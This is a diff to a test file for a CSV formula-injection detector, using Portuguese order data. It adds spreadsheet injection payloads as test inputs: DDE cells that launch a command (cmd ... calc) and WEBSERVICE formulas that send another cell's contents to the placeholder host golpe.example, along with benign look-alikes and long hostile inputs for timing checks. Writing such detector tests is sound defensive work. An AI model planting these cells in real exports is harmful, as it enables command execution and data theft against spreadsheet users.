@@ -23,6 +23,17 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a no-break space and a word joiner before a plus', 'pedido\t\u00a0\u2060+SUM(1;2)\n'],
     ['a full-width equals sign', 'pedido,link\n1050,\uff1dHYPERLINK("http://golpe.example")\n'],
     ['a full-width at sign before a function', '\uff20SUM(1+1)*cmd|x,y\n'],
+    // The whole cell runs: a DDE link or a remote call after a bracket, a reference or a string.
+    ['a DDE link after a bracket', "pedido;valor\n1051;-(1)+cmd|' /C calc'!A0\n"],
+    ['a DDE link inside brackets, after an at sign', "pedido;valor\n1052;@(cmd|' /C calc'!A0)\n"],
+    ['a DDE link after a cell reference', "pedido;valor\n1053;-A1+cmd|' /C calc'!A0\n"],
+    ['a DDE link after an absolute reference and a decimal comma', "pedido;valor\n1054;+$A$1,5+cmd|' /C calc'!A0\n"],
+    ['a DDE link after a string', 'pedido;valor\n1055;+"pedido"&cmd|\' /C calc\'!A0\n'],
+    ['a remote call inside brackets', 'pedido;cliente\n1056;+(WEBSERVICE("http://golpe.example/?c="&B2))\n'],
+    [
+      'a remote call in a quoted cell, after a reference',
+      'pedido;cliente\n1057;"-A1&FILTERXML(WEBSERVICE(""http://golpe.example/?""&B2);""//a"")"\n',
+    ],
   ])('%s', (_name, text) => {
     expect(csvHasFormula(text)).toBe(true);
   });
@@ -39,6 +50,9 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a minus before text', 'observação\n-Urgente! Cliente aguardando\n'],
     ['spaces before a phone number and a negative value', 'nome,telefone,valor\nAna, +55 11 98765-4321, -15,00\n'],
     ['a zero-width space before a handle', 'loja;instagram\nEmpório;\u200b@emporiodaana\n'],
+    ['a negative value, then sizes with bars in the next cell', 'valor,tamanhos\n-15,P|M|G\n'],
+    ['a negative value, then a remote call written as text in the next cell', 'valor;nota\n-15,00;WEBSERVICE(x)\n'],
+    ['a quoted text after a sign, with quotes and separators in it', 'nota\n"- ver ""pedido""; frete, (ida)"\n'],
     ['empty', ''],
   ])('%s: no formula', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
@@ -71,6 +85,9 @@ describe('csvHasFormula: bounded work on hostile shapes', () => {
     ['signs and decimal commas', `${'-1,1'.repeat(500_000)}x`],
     ['signs and spaces on one line', `-${' '.repeat(2_000_000)}x`],
     ['signed cells on every line', `${'-1 + 2 * 3\n'.repeat(200_000)}`],
+    ['a sign before a quoted cell as long as an upload', `+"${'a'.repeat(10_000_000)}"\n`],
+    ['quoted signed cells, one after another', `${';"+a'.repeat(1_000_000)}\n`],
+    ['signed cells whose quotes never close', `${'"-'.repeat(1_000_000)}`],
   ])('%s: no formula, read in linear time', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
   });
